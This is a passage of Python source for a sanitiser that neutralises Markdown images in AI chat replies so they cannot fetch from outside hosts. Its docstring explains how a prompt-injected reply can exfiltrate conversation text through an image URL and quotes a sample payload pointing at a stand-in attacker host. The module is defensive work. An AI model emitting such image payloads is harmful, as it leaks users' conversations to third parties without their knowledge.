"""Model text made inert before it is drawn as Markdown: no image is fetched from an outside host.

Streamlit draws `![alt](url)` as an <img>, and the browser fetches it the moment the message is
drawn. A reply steered by a prompt injection can so put conversation text into the address of an
image on someone else's host (`![](https://attacker.example/?d=...)`), and everyone who opens the
conversation, or a read-only link to it, sends it there without clicking anything.
`inert_markdown` keeps an image only when its source stays on our own origin or on a host the
administrator allowed (ANYCHAT_IMAGE_HOSTS); every other image becomes a link, marked with an image
icon, that the reader may choose to open. Code is left byte for byte: an image written inside a
fenced code block or a code span is shown as code, not fetched.

The text is read as CommonMark plus what Streamlit's renderer adds (GFM tables and footnotes,
remark-math's `$`, remark-directive), but safety does not rest on reading it exactly as the
renderer does. Every unescaped `![` outside code is changed, unless it starts an image whose
source is allowed and whose text is too plain for any reader to end it elsewhere. Text counts as
code only where every reading agrees (with and without math, as a paragraph and as a table), and
a code span only when nothing before it could have swallowed one of its backticks. Where this
reader cannot be sure, it changes text: at worst a link is shown for an image, or a `\\` appears
before a `!` in code. The page's Content-Security-Policy (web/headers.py) is the second line:
the browser fetches no image from a host its img-src does not name, whatever the Markdown turned
out to mean.
"""

from __future__ import annotations

import re
from bisect import bisect_left, bisect_right
from dataclasses import dataclass, field
from html.entities import html5

IMAGE_ICON = ":material/image:"  # Streamlit's icon syntax: drawn from its bundled font, no fetch

Edit = tuple[int, int, str]  # replace text[start:end] with the string
# What one reading makes of one `![`: None, not an image; (), an image to keep; edits, one to
# turn into a link.
Verdict = tuple[Edit, ...] | None

_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n)?")

# Block structure (CommonMark 0.31, with GFM footnote definitions and remark-math's `$$` blocks).
_ATX_HEADING = re.compile(r"#{1,6}(?:[ \t]|$)")
_CODE_FENCE = re.compile(r"`{3,}+(?!.*`)|~{3,}")
_MATH_FENCE = re.compile(r"\${2,}+(?!.*\$)")
_SETEXT_UNDERLINE = re.compile(r"(?:=+|-+)[ \t]*")
_THEMATIC_BREAK = re.compile(r"(?:\*[ \t]*){3,}|(?:-[ \t]*){3,}|(?:_[ \t]*){3,}")
_LIST_MARKER = re.compile(r"[*+-]|([0-9]{1,9})[.)]")
_BLANK_REST = re.compile(r"[ \t]*$")
_FOOTNOTE_DEFINITION = re.compile(r"\[\^[^\]]+\]:")
# A `:::` line opens or closes a remark-directive container, which this reader does not follow.
_DIRECTIVE_FENCE = re.compile(r":{3,}")

_TAG_NAME = r"[A-Za-z][A-Za-z0-9-]*+"


def _tags(space: str) -> str:
    """An HTML open or closing tag whose whitespace is `space` (a character class)."""
    value = rf"(?:[^{space[1:-1]}\"'=<>`]++|'[^']*+'|\"[^\"]*+\")"
    attribute = rf"(?:{space}++[A-Za-z_:][A-Za-z0-9_.:-]*+(?:{space}*+={space}*+{value})?+)"
    return rf"(?:<{_TAG_NAME}{attribute}*+{space}*+/?>|</{_TAG_NAME}{space}*+>)"


_HTML_BLOCK_NAMES = (
    "address|article|aside|base|basefont|blockquote|body|caption|center|col|colgroup|dd|details|"
    "dialog|dir|div|dl|dt|fieldset|figcaption|figure|footer|form|frame|frameset|h1|h2|h3|h4|h5|"
    "h6|head|header|hr|html|iframe|legend|li|link|main|menu|menuitem|nav|noframes|ol|optgroup|"
    "option|p|param|search|section|summary|table|tbody|td|tfoot|th|thead|title|tr|track|ul"
)
# HTML block kinds 1 to 6: how each starts, and what ends it (None: a blank line).
_HTML_BLOCKS: tuple[tuple[re.Pattern[str], re.Pattern[str] | None], ...] = (
    (
        re.compile(r"<(?:script|pre|style|textarea)(?:[ \t>]|$)", re.I),
        re.compile(r"</(?:script|pre|style|textarea)>", re.I),
    ),
    (re.compile(r"<!--"), re.compile(r"-->")),
    (re.compile(r"<\?"), re.compile(r"\?>")),
    (re.compile(r"<![A-Za-z]"), re.compile(r">")),
    (re.compile(r"<!\[CDATA\["), re.compile(r"\]\]>")),
    (re.compile(rf"</?(?:{_HTML_BLOCK_NAMES})(?:[ \t>]|/>|$)", re.I), None),
)
_HTML_BLOCK_TAG = re.compile(_tags("[ \t]") + r"[ \t]*$")  # kind 7: a lone tag on its line

# Inline structure.
_INLINE_TAG = re.compile(_tags("[ \t\n]"))
_AUTOLINK = re.compile(
    r"<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\x00-\x20<>]*+>"
    r"|<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]++@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*+>"
)
_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")  # a `|` after an even run of backslashes
_DELIMITER_ROW = re.compile(
    r"[ \t]*+\|?[ \t]*+:?-++:?[ \t]*+(?:\|[ \t]*+:?-++:?[ \t]*+)*+\|?[ \t]*+"
)
_DEFINITION_START = re.compile(r"\[(?:[^\\\[\]]|\\.)*\]:")
# Where something that keeps its text from being read as Markdown may begin: raw HTML, link
# tails, directive labels and attributes, footnote calls, autolink literals.
_SUSPECT = re.compile(r"[<{]|\]\(|\]\[|\[\^|:[A-Za-z][A-Za-z0-9_-]*\[|www\.|https?://", re.I)
_BRACKET = re.compile(r"[\\\[\]]")
_SPACE = re.compile(r"[ \t\n]*")
_DESTINATION_TEXT = re.compile(r"[^\\\x00-\x20\x7f()]+")
_DECLARATION = re.compile(r"<![A-Za-z]")
# Image text in which no construct can begin that would end the image somewhere else.
_NOT_PLAIN = re.compile(r"[\[\]`$<>{}|\\\n]|:[A-Za-z]|www\.|://|@", re.I)

# Every link definition-like line, wherever it is: the superset an image is checked against.
_DEFINITION = re.compile(
    r"^[ \t>]*+(?:(?:[-+*]|[0-9]{1,9}[.)])[ \t][ \t>]*+)*+"
    r"\[((?:[^\\\[\]]|\\.){1,999})\]:[ \t]*(?:\n[ \t>]*)?(<[^<>\n]*>|\S*)",
    re.M,
)
_REFERENCE = re.compile(
    r"\\([!-/:-@\[-`{-~])|&(#[xX][0-9a-fA-F]{1,6}|#[0-9]{1,7}|[A-Za-z][A-Za-z0-9]{0,31});"
)
_WEB = re.compile(r"(https?)://([^/?#:@\\\s%\[\]]+)(?::([0-9]*))?(?:[/?#].*)?", re.S)
_DEFAULT_PORTS = {"http": "80", "https": "443"}
_C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def inert_markdown(text: str, image_hosts: tuple[str, ...]) -> str:
    """`text` with each image that could fetch from elsewhere turned into a link; code untouched.

    An image is kept when its source is a path on our own origin (`/…`, not `//host`), a
    `data:image/…` or `blob:` URL, or an http(s) URL on one of `image_hosts` (at the scheme's
    own port).
    """
    if "![" not in text:
        return text  # most replies, and every streamed redraw of them
    hosts = frozenset(host.lower().rstrip(".") for host in image_hosts)
    definitions = _definitions(text, hosts)
    # Streamlit loads remark-math only for text that looks like it holds math: read both ways.
    readings = [_Reading(text, definitions, hosts, math=False)]
    if "$" in text:
        readings.append(_Reading(text, definitions, hosts, math=True))
    edits: list[Edit] = []
    at = text.find("![")
    while at != -1:
        if not _escaped(text, at) and not all(reading.protected[at] for reading in readings):
            edits.extend(_decide([reading.verdicts.get(at) for reading in readings], at))
        at = text.find("![", at + 1)
    return _apply(text, edits)


def fenced_blocks(text: str) -> tuple[FencedBlock, ...]:
    """The fenced code blocks outside any container that every reading (with and without
    math) agrees on; none after a line this reader cannot place (see `_Blocks`)."""
    if "```" not in text and "~~~" not in text:
        return ()
    found = _Blocks(text, math=False).fences
    if "$" in text:
        agreed = set(_Blocks(text, math=True).fences)
        found = [fence for fence in found if fence in agreed]
    return tuple(found)


def _decide(verdicts: list[Verdict], at: int) -> tuple[Edit, ...]:
    """A link if any reading sees an image to change, kept if one sees an image to keep; a
    `![` no reading makes sense of gets its `!` escaped, which changes nothing it displays."""
    for verdict in verdicts:
        if verdict:
            return verdict
    if () in verdicts:
        return ()
    return ((at, at, "\\"),)


def _apply(text: str, edits: list[Edit]) -> str:
    out: list[str] = []
    done = 0
    for start, end, replacement in sorted(edits, key=lambda edit: (edit[0], edit[1])):
        if start < done:  # inside text an earlier edit already replaced
            continue
        out += (text[done:start], replacement)
        done = end
    out.append(text[done:])
    return "".join(out)


def _escaped(text: str, at: int) -> bool:
    start = at
    while start > 0 and text[start - 1] == "\\":
        start -= 1
    return (at - start) % 2 == 1


# -- sources -----------------------------------------------------------------------------------


def _decode(raw: str) -> str:
    """A link destination as the renderer passes it on: backslash escapes and entities resolved."""

    def one(match: re.Match[str]) -> str:
        if match.group(1) is not None:
            return match.group(1)
        name = match.group(2)
        if name[0] != "#":
            return html5.get(name + ";", match.group(0))
        code = int(name[2:], 16) if name[1] in "xX" else int(name[1:])
        return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"

    return _REFERENCE.sub(one, raw)


def _allowed(url: str, hosts: frozenset[str]) -> bool:
    """Whether the browser would fetch `url` only from our origin or an allowed host.

    Read as the browser's URL parser does: outer spaces and controls dropped, tabs and line
    breaks removed anywhere, and a backslash taken for a slash (`/\\host` is `//host`).
    """
    url = url.strip(_C0_AND_SPACE).replace("\t", "").replace("\n", "").replace("\r", "")
    if url.startswith("/"):
        return not url.startswith(("//", "/\\"))
    lowered = url.lower()
    if lowered.startswith(("data:image/", "blob:")):
        return True
    web = _WEB.fullmatch(lowered)
    if web is None:
        return False
    scheme, host, port = web.groups()
    # Another port is another server, and one the page's img-src does not allow either.
    return host.rstrip(".") in hosts and port in (None, "", _DEFAULT_PORTS[scheme])


def _label_key(label: str) -> str:
    # Coarser than the renderer's (case folded, whitespace and `>` collapsed): a definition in a
    # block quote, or one this reader misjudges, still counts against the label.
    return " ".join(label.replace(">", " ").split()).casefold()


def _definitions(text: str, hosts: frozenset[str]) -> dict[str, bool]:
    """For each label anything like a link definition names: whether all its sources are allowed.

    Deliberately generous (inside code too, wherever a line starts with `[label]:`): a label
    this finds that the renderer does not define only makes an image less likely to be kept.
    """
    found: dict[str, bool] = {}
    for match in _DEFINITION.finditer(re.sub(r"\r\n?", "\n", text)):
        label, destination = match.groups()
        if destination.startswith("<") and destination.endswith(">"):
            destination = destination[1:-1]
        key = _label_key(label)
        found[key] = found.get(key, True) and _allowed(_decode(destination), hosts)
    return found


# -- block structure ---------------------------------------------------------------------------


class _Cursor:
    """One line read left to right in columns; a tab advances to the next multiple of 4."""

    __slots__ = ("col", "line", "pos")

    def __init__(self, line: str) -> None:
        self.line, self.pos, self.col = line, 0, 0

    def _next_nonspace(self) -> tuple[int, int]:
        pos, col = self.pos, self.col
        while pos < len(self.line) and self.line[pos] in " \t":
            col += 1 if self.line[pos] == " " else 4 - col % 4
            pos += 1
        return pos, col

    def indent(self) -> int:
        return self._next_nonspace()[1] - self.col

    def start(self) -> int:
        """Where the rest of the line begins, past its indentation."""
        return self._next_nonspace()[0]

    def blank(self) -> bool:
        return self.start() == len(self.line)

    def skip_indent(self) -> None:
        self.pos, self.col = self._next_nonspace()

    def skip_columns(self, count: int) -> None:
        while count > 0 and self.pos < len(self.line) and self.line[self.pos] in " \t":
            width = 1 if self.line[self.pos] == " " else 4 - self.col % 4
            if width > count:  # only part of a tab
                self.col += count
                return
            self.col += width
            count -= width
            self.pos += 1

    def skip_chars(self, count: int) -> None:
        self.pos += count
        self.col += count


@dataclass
class _Container:
    kind: str  # ">" block quote, "-" list item, "^" footnote definition
    width: int = 0  # list items and footnotes: how far their content is indented
    has_content: bool = False


@dataclass(frozen=True, slots=True)
class FencedBlock:
    """A fenced code block outside any list, quote or footnote, as text offsets."""

    start: int  # its opening line
    body_start: int
    body_end: int  # where its closing line starts (the text's end when it has none)
    end: int  # past its closing line
    indent: int  # the opening fence's indentation, taken off each of its lines
    info: str  # what follows the opening fence, e.g. `python`


@dataclass
class _OpenFence:
    start: int
    indent: int
    info: str
    body_start: int | None = None


@dataclass
class _Leaf:
    kind: str  # "paragraph", "html", "fence" or "code" (indented)
    pieces: list[tuple[int, int]] = field(default_factory=list)  # content, as text offsets
    end: re.Pattern[str] | None = None  # a fence's closing line; what ends an HTML block


class _Blocks:
    """Where the text's code blocks are, and the runs of inline text (paragraphs, headings).

    Follows the CommonMark reference parser's line-by-line algorithm. After a line this reader
    cannot place (a `:::` directive fence) nothing further counts as code.
    """

    def __init__(self, text: str, *, math: bool) -> None:
        self.text, self.math = text, math
        self.code: list[tuple[int, int]] = []
        self.scopes: list[tuple[list[tuple[int, int]], bool]] = []  # pieces, spans trusted
        self.stack: list[_Container] = []
        self.leaf: _Leaf | None = None
        self.matched = 0
        self.trusted = True
        self.fences: list[FencedBlock] = []  # top-level ones, while the reading is trusted
        self.open_fence: _OpenFence | None = None
        for match in _LINE.finditer(text):
            if match.group():
                self._line(match.start(), match.group().rstrip("\r\n"))
        self._finish()
        self._close_fence(len(text), len(text))  # a fence the text ends in runs to its end

    def _close_fence(self, body_end: int, end: int) -> None:
        fence, self.open_fence = self.open_fence, None
        if fence is not None and self.trusted:
            start = body_end if fence.body_start is None else fence.body_start
            block = FencedBlock(fence.start, start, body_end, end, fence.indent, fence.info)
            self.fences.append(block)

    def _protect(self, start: int, end: int) -> None:
        if self.trusted:
            self.code.append((start, end))

    def _finish(self) -> None:
        leaf, self.leaf = self.leaf, None
        if leaf is not None and leaf.kind in ("paragraph", "html") and leaf.pieces:
            # Raw HTML has no code spans: none of its backticks may protect anything.
            self.scopes.append((leaf.pieces, self.trusted and leaf.kind == "paragraph"))

    def _begin(self) -> None:
        """A new block starts: what did not continue on this line ends."""
        del self.stack[self.matched :]
        self._finish()

    def _push(self, container: _Container) -> None:
        self.stack.append(container)
        self.matched = len(self.stack)

    def _content(self) -> None:
        for container in self.stack:
            container.has_content = True

    def _match_containers(self, cursor: _Cursor) -> int:
        matched = 0
        for container in self.stack:
            if container.kind == ">":
                if cursor.indent() > 3 or not cursor.line.startswith(">", cursor.start()):
                    break
                cursor.skip_indent()
                cursor.skip_chars(1)
                cursor.skip_columns(1)
            elif cursor.blank():
                if not container.has_content:  # an empty list item ends at a blank line
                    break
                cursor.skip_indent()
            elif cursor.indent() >= container.width:
                cursor.skip_columns(container.width)
            else:
                break
            matched += 1
        return matched

    def _line(self, start: int, line: str) -> None:
        cursor = _Cursor(line)
        self.matched = self._match_containers(cursor)
        if _DIRECTIVE_FENCE.match(line, cursor.start()):
            self.trusted = False
        leaf = self.leaf
        if leaf is not None and self.matched == len(self.stack):
            if leaf.kind == "fence":
                self._protect(start, start + len(line))
                closing = leaf.end and leaf.end.fullmatch(line, cursor.start())
                if cursor.indent() <= 3 and closing:
                    self.leaf = None
                    self._close_fence(start, start + len(line))
                elif self.open_fence is not None and self.open_fence.body_start is None:
                    self.open_fence.body_start = start
                return
            if leaf.kind == "html":
                if cursor.blank() and leaf.end is None:
                    self._finish()
                    return
                leaf.pieces.append((start + cursor.start(), start + len(line)))
                if leaf.end is not None and leaf.end.search(line, cursor.start()):
                    self._finish()
                return
            if leaf.kind == "code":
                if cursor.indent() >= 4 or cursor.blank():
                    self._protect(start, start + len(line))
                    return
                self._finish()
        if self._starts(start, cursor):
            self._content()
            return
        blank = cursor.blank()
        piece = (start + cursor.start(), start + len(line))
        paragraph = self.leaf is not None and self.leaf.kind == "paragraph"
        if paragraph and not blank and self.matched < len(self.stack):
            self.leaf.pieces.append(piece)  # type: ignore[union-attr]  # a lazy continuation line
            return
        if self.matched < len(self.stack):
            self._begin()
        if blank:
            self._finish()
            return
        self._content()
        if self.leaf is not None and self.leaf.kind == "paragraph":
            self.leaf.pieces.append(piece)
        else:
            self.leaf = _Leaf("paragraph", [piece])

    def _starts(self, start: int, cursor: _Cursor) -> bool:
        """Open the blocks that begin on this line; True when a leaf took the rest of it."""
        line = cursor.line
        # A thematic break is all `*-_` and spaces: past this, none can start (checked once, so
        # a line of a thousand nested list markers is not rescanned for each of them).
        breakable = len(line.rstrip("*-_ \t"))
        while True:
            indent, at = cursor.indent(), cursor.start()
            in_paragraph = self.leaf is not None and self.leaf.kind == "paragraph"
            if indent >= 4:
                if at == len(line) or in_paragraph:  # indented text continues a paragraph
                    return False
                self._begin()
                self.leaf = _Leaf("code")
                self._protect(start, start + len(line))
                return True
            if at == len(line):
                return False
            interrupts = in_paragraph and self.matched == len(self.stack)
            if line[at] == ">":
                self._begin()
                cursor.skip_indent()
                cursor.skip_chars(1)
                cursor.skip_columns(1)
                self._push(_Container(">"))
                continue
            if _ATX_HEADING.match(line, at):
                self._begin()
                self.scopes.append(([(start + at, start + len(line))], self.trusted))
                return True
            fence = _CODE_FENCE.match(line, at) or (
                _MATH_FENCE.match(line, at) if self.math else None
            )
            if fence:
                self._begin()
                if not self.stack and line[at] in "`~":
                    self.open_fence = _OpenFence(start, indent, line[fence.end() :].strip())
                length = fence.end() - at
                self.leaf = _Leaf(
                    "fence", end=re.compile(f"{re.escape(line[at])}{{{length},}}[ \t]*")
                )
                self._protect(start, start + len(line))
                return True
            html = _html_block(line, at, in_paragraph)
            if html is not None:
                self._begin()
                self.leaf = _Leaf("html", [(start + at, start + len(line))], html[0])
                if html[0] is not None and html[0].search(line, at):
                    self._finish()
                return True
            if interrupts and _SETEXT_UNDERLINE.fullmatch(line, at):
                self._finish()  # the paragraph was a heading; the underline holds no text
                return True
            if at >= breakable and _THEMATIC_BREAK.fullmatch(line, at):
                self._begin()
                return True
            footnote = _FOOTNOTE_DEFINITION.match(line, at)
            if footnote:
                self._begin()
                cursor.skip_indent()
                cursor.skip_chars(footnote.end() - at)
                self._push(_Container("^", 4))
                continue
            width = _list_item(cursor, interrupts)
            if width is not None:
                self._begin()
                self._push(_Container("-", width))
                continue
            return False


def _html_block(line: str, at: int, in_paragraph: bool) -> tuple[re.Pattern[str] | None] | None:
    """What ends the HTML block starting at line[at], in a 1-tuple; None when none starts."""
    for start, end in _HTML_BLOCKS:
        if start.match(line, at):
            return (end,)
    if not in_paragraph and _HTML_BLOCK_TAG.match(line, at):
        return (None,)
    return None


def _list_item(cursor: _Cursor, interrupts: bool) -> int | None:
    """The content indent of a list item starting at the cursor (consumed), or None."""
    line, at = cursor.line, cursor.start()
    marker = _LIST_MARKER.match(line, at)
    if marker is None:
        return None
    size = marker.end() - at
    if marker.end() < len(line) and line[marker.end()] not in " \t":
        return None
    empty = _BLANK_REST.match(line, marker.end()) is not None
    if interrupts and (empty or marker.group(1) not in (None, "1")):
        return None  # only a non-empty item, numbered 1 if ordered, can interrupt a paragraph
    offset = cursor.indent()
    cursor.skip_indent()
    cursor.skip_chars(size)
    spaces = cursor.indent()
    if spaces >= 5 or empty:  # the content starts with indented code, or there is none
        cursor.skip_columns(1)
        return offset + size + 1
    cursor.skip_columns(spaces)
    return offset + size + spaces


# -- inline structure --------------------------------------------------------------------------


class _Reading:
    """One way to read the text, with or without remark-math: what is code, and what each `![`
    outside code is."""

    def __init__(
        self, text: str, definitions: dict[str, bool], hosts: frozenset[str], *, math: bool
    ) -> None:
        self.definitions, self.hosts, self.math = definitions, hosts, math
        self.protected = bytearray(len(text))
        self.verdicts: dict[int, Verdict] = {}
        blocks = _Blocks(text, math=math)
        for start, end in blocks.code:
            self.protected[start:end] = b"\x01" * (end - start)
        for pieces, trusted in blocks.scopes:
            self._scan(text, pieces, trusted)

    def _read(self, text: str, pieces: list[tuple[int, int]]) -> tuple[_Inline, list[int]]:
        """The inline text made of `pieces`, and where each of its characters is in `text`."""
        offsets: list[int] = []
        for start, end in pieces:
            offsets.extend(range(start, end + 1))  # a piece's end stands for its line break
        return _Inline("\n".join(text[start:end] for start, end in pieces), self.math), offsets

    def _scan(self, text: str, pieces: list[tuple[int, int]], trusted: bool) -> None:
        inline, offsets = self._read(text, pieces)
        s = inline.s
        # A link definition is no inline text at all: no span is trusted in what might be one.
        if trusted and not _DEFINITION_START.match(s):
            for position in self._agreed_spans(text, pieces, inline, offsets):
                self.protected[position] = 1
        at = s.find("![")
        while at != -1:
            if not inline.inside[at] and not _escaped(s, at):
                verdict = self._image(inline, offsets, at)
                if verdict is not None:
                    self.verdicts[offsets[at]] = verdict
            at = s.find("![", at + 1)

    def _agreed_spans(
        self, text: str, pieces: list[tuple[int, int]], inline: _Inline, offsets: list[int]
    ) -> set[int]:
        """Where the paragraph's trusted code spans are, read as a paragraph and as a GFM table.

        A table splits its rows into cells at each unescaped `|` before any code span is read,
        and may start at any line followed by a delimiter row (`|---|:-:|`): a place is code
        only if it is in each of those readings.
        """
        agreed = _positions(inline.trusted_spans(), offsets)
        lines = [text[start:end] for start, end in pieces]
        headers = [
            row - 1 for row, line in enumerate(lines) if row and _DELIMITER_ROW.fullmatch(line)
        ]
        if len(headers) > 3:  # more tables than anyone writes in one paragraph: trust none
            return set()
        for header in headers:
            scopes = [pieces[:header]] if header else []
            scopes += [[cell] for piece in pieces[header:] for cell in _cells(text, piece)]
            table: set[int] = set()
            for scope in scopes:
                cell, cell_offsets = self._read(text, scope)
                table |= _positions(cell.trusted_spans(), cell_offsets)
            agreed &= table
        return agreed

    def _image(self, inline: _Inline, offsets: list[int], at: int) -> Verdict:
        s, closes = inline.s, inline.closes
        opener = at + 1
        close = closes.get(opener)
        if close is None:
            return None
        alt, after = s[opener + 1 : close], close + 1
        sources: list[bool] = []  # for each source the image may have: whether it is allowed
        labels = [alt]
        end: int | None = None
        # A collapsed or shortcut reference must name its label once the text before it changes.
        label_fix: Edit | None = None
        own_label = f"[{' '.join(alt.split())}]"
        resource = inline.resource(after)
        if resource is not None:
            destination, end = resource
            sources.append(_allowed(_decode(destination), self.hosts))
        if s.startswith("[", after) and after in closes:
            label = s[after + 1 : closes[after]]
            if label.strip():
                labels.append(label)
                end = end or closes[after] + 1
            elif closes[after] == after + 1 and end is None:  # collapsed: `![label][]`
                label_fix = (offsets[after], offsets[after] + 2, own_label)
                end = after + 2
        if end is None:
            end = close + 1
            label_fix = (offsets[end], offsets[end], own_label)
        for label in labels:
            allowed = self.definitions.get(_label_key(label))
            if allowed is not None:
                sources.append(allowed)
        if not sources:
            return None
        if all(sources) and not any(_NOT_PLAIN.search(label) for label in labels):
            return ()
        words = f"{IMAGE_ICON} " + ("" if alt.strip() else "image")
        bang, tail = offsets[at], s[close:end]
        if inline.in_link_text(opener, end) and "\n" not in tail and "![" not in tail:
            # A link cannot hold a link: the image becomes plain text inside the one around it.
            return ((bang, bang + 2, words), (offsets[close], offsets[close] + len(tail), ""))
        return ((bang, bang + 2, f"[{words}"),) + ((label_fix,) if label_fix else ())


def _positions(spans: list[tuple[int, int]], offsets: list[int]) -> set[int]:
    """The places in the whole text that `spans` (of an inline text with `offsets`) cover."""
    return {
        position for start, end in spans for position in range(offsets[start], offsets[end - 1] + 1)
    }


def _cells(text: str, piece: tuple[int, int]) -> list[tuple[int, int]]:
    """A table row's cells: `piece` split at each `|` that no backslash escapes."""
    cells, start = [], piece[0]
    for match in _PIPE.finditer(text, piece[0], piece[1]):
        cells.append((start, match.end() - 1))
        start = match.end()
    cells.append((start, piece[1]))
    return [cell for cell in cells if cell[1] > cell[0]]


class _Inline:
    """The inline text of one block: its code spans, raw HTML and brackets."""

    def __init__(self, s: str, math: bool) -> None:
        self.s, self.math = s, math
        self._found: dict[str, list[int]] = {}
        self._resources: dict[int, tuple[str, int] | None] = {}
        self._tag_ends: dict[int, int] = {}
        self.spans, self.opaque = self._spans()
        self.inside = bytearray(len(s))  # in a code span, raw HTML or an autolink
        for start, end in self.spans + self.opaque:
            self.inside[start:end] = b"\x01" * (end - start)
        self.closes, self.parents = _brackets(s, sorted(self.spans + self.opaque))

    def find(self, pattern: str, start: int) -> int:
        """Where `pattern` next occurs at or after `start` (-1: nowhere), without rescanning."""
        if pattern not in self._found:
            self._found[pattern] = [m.start() for m in re.finditer(pattern, self.s)]
        found = self._found[pattern]
        k = bisect_left(found, start)
        return found[k] if k < len(found) else -1

    def resource(self, k: int) -> tuple[str, int] | None:
        """The destination and end of an inline link's `(destination "title")` at s[k]."""
        if k not in self._resources:
            self._resources[k] = _resource(self.s, k) if self.s.startswith("(", k) else None
        return self._resources[k]

    def _spans(self) -> tuple[list[tuple[int, int]], list[tuple[int, int]]]:
        """Code spans (and math, when read) and raw HTML or autolinks, left to right, as the
        CommonMark inline parser finds them: whichever starts first wins."""
        s, n = self.s, len(self.s)
        runs: dict[str, list[int]] = {}
        for run in re.finditer(r"`+|\$+" if self.math else r"`+", s):
            runs.setdefault(run.group(), []).append(run.start())
        special = re.compile(r"[\\`<$]" if self.math else r"[\\`<]")
        spans: list[tuple[int, int]] = []
        opaque: list[tuple[int, int]] = []
        i = 0
        while match := special.search(s, i):
            i = match.start()
            c = s[i]
            if c == "\\":
                i += 2 if i + 1 < n and s[i + 1] in _PUNCTUATION else 1
            elif c == "<":
                end = self.tag_end(i)
                if end:
                    opaque.append((i, end))
                i = end or i + 1
            else:
                j = i
                while j < n and s[j] == c:
                    j += 1
                starts = runs.get(c * (j - i), [])
                k = bisect_left(starts, j)
                if k < len(starts):
                    spans.append((i, starts[k] + j - i))
                    j = starts[k] + j - i
                i = j
        return spans, opaque

    def tag_end(self, i: int) -> int:
        """The end of the autolink or raw HTML starting at s[i] == "<", or 0."""
        if i not in self._tag_ends:
            self._tag_ends[i] = self._tag_end(i)
        return self._tag_ends[i]

    def _tag_end(self, i: int) -> int:
        s = self.s
        match = _AUTOLINK.match(s, i) or _INLINE_TAG.match(s, i)
        if match:
            return match.end()
        if s.startswith(("<!-->", "<!--->"), i):
            return s.index(">", i) + 1
        for opening, closing in (("<!--", "-->"), ("<?", "?>"), ("<![CDATA[", "]]>")):
            if s.startswith(opening, i):
                found = self.find(re.escape(closing), i + len(opening))
                return found + len(closing) if found != -1 else 0
        if _DECLARATION.match(s, i):
            found = self.find(">", i)
            return found + 1 if found != -1 else 0
        return 0

    def in_link_text(self, opener: int, end: int) -> bool:
        """Whether the brackets around `opener` hold the text of a link that outlasts `end`."""
        parent = self.parents.get(opener)
        while parent is not None and parent not in self.closes:
            parent = self.parents.get(parent)
        if parent is None:
            return False
        close = self.closes[parent]
        return close >= end and self.s[close + 1 : close + 2] in ("(", "[")

    def trusted_spans(self) -> list[tuple[int, int]]:
        """The code spans no construct before them could have taken a backtick from.

        What this reader does not follow exactly (raw HTML, link tails, directive labels and
        attributes, footnote calls, autolink literals) may swallow backticks in the renderer,
        which then pairs the ones after differently. So spans are trusted in order up to the
        first backtick such a suspect could reach; a suspect inside a trusted span is code.
        """
        marks = [m.start() for m in re.finditer(r"[`$]" if self.math else "`", self.s)]
        suspects = sorted(self._suspects())
        trusted: list[tuple[int, int]] = []
        bad = len(self.s)
        k = 0
        for start, end in self.spans:
            while k < len(suspects) and suspects[k][0] < start:
                first, last = suspects[k]
                k += 1
                if trusted and first < trusted[-1][1]:
                    continue
                j = bisect_right(marks, first)
                if j < len(marks) and marks[j] < last:
                    bad = min(bad, marks[j])
            if start >= bad:
                break
            trusted.append((start, end))
        return trusted

    def _suspects(self) -> list[tuple[int, int]]:
        """(start, end) of each place a construct might keep its text from being Markdown, each
        end as far as any reading of it could reach."""
        s = self.s
        raw_closes = _brackets(s, [])[0]
        found: list[tuple[int, int]] = []
        for match in _SUSPECT.finditer(s):
            start, token = match.start(), match.group()
            if token == "<":
                plain = self.find(">", start)
                end = max(self.tag_end(start), _quoted_end(s, start, "<", ">"), plain + 1)
            elif token == "{":
                end = _quoted_end(s, start, "{", "}")
            elif token == "](":
                resource = self.resource(start + 1)
                end = resource[1] if resource else 0
            elif token in ("][", "[^"):
                end = self.find(r"\]", start + 2) + 1
            elif token.endswith("["):  # a directive's label, balanced but blind to code
                end = raw_closes.get(match.end() - 1, -1) + 1
            else:  # an autolink literal runs to the next space or `<`
                stop = self.find(r"[\s<]", start)
                end = stop if stop != -1 else len(s)
            if end > start:
                found.append((start, end))
        return found


def _brackets(s: str, skip: list[tuple[int, int]]) -> tuple[dict[int, int], dict[int, int]]:
    """Each `[`'s matching `]`, and the `[` around each `[` (when there is one), jumping over
    backslash escapes and the sorted, disjoint `skip` ranges."""
    closes: dict[int, int] = {}
    parents: dict[int, int] = {}
    stack: list[int] = []
    k, resume = 0, 0
    for match in _BRACKET.finditer(s):
        i = match.start()
        if i < resume:
            continue
        while k < len(skip) and skip[k][1] <= i:
            k += 1
        if k < len(skip) and skip[k][0] <= i:
            continue
        c = s[i]
        if c == "\\":
            if i + 1 < len(s) and s[i + 1] in _PUNCTUATION:
                resume = i + 2
        elif c == "[":
            if stack:
                parents[i] = stack[-1]
            stack.append(i)
        elif stack:
            closes[stack.pop()] = i
    return closes, parents


def _quoted_end(s: str, start: int, opening: str, closing: str) -> int:
    """The end of a tag or attribute list from s[start], past quoted values; 0 if it has none."""
    quote = ""
    for i in range(start + 1, len(s)):
        c = s[i]
        if quote:
            if c == quote:
                quote = ""
        elif c in "\"'":
            quote = c
        elif c == closing:
            return i + 1
        elif c == opening:
            return 0
    return 0


def _resource(s: str, k: int) -> tuple[str, int] | None:
    """The destination and end of an inline link's `(destination "title")` at s[k] == "("."""
    n = len(s)
    k = _space(s, k + 1)
    if k < n and s[k] == ")":
        return "", k + 1
    destination = _destination(s, k)
    if destination is None:
        return None
    raw, k = destination
    gap = _space(s, k)
    if gap > k and gap < n and s[gap] in "\"'(":
        title_end = _title(s, gap)
        if title_end is None:
            return None
        gap = _space(s, title_end)
    return (raw, gap + 1) if gap < n and s[gap] == ")" else None


def _space(s: str, k: int) -> int:
    return _SPACE.match(s, k).end()  # type: ignore[union-attr]


def _destination(s: str, k: int) -> tuple[str, int] | None:
    n = len(s)
    if k < n and s[k] == "<":
        j = k + 1
        while j < n and s[j] not in "<>\n":
